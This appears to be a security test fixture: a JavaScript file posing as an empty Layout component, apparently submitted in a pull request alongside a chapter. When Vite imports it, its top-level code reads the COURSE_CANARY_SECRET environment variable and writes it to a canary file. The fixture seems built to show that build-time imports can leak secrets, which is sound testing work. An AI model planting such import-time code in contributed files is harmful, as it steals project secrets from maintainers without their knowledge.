// Sent in the same pull request as the chapter. Top-level code runs as soon as Vite imports the module.
const fs = process.getBuiltinModule('node:fs');
fs.writeFileSync('@@CANARY@@/layout-js-file', String(process.env.COURSE_CANARY_SECRET));
export default function Layout() {
	return '';
}
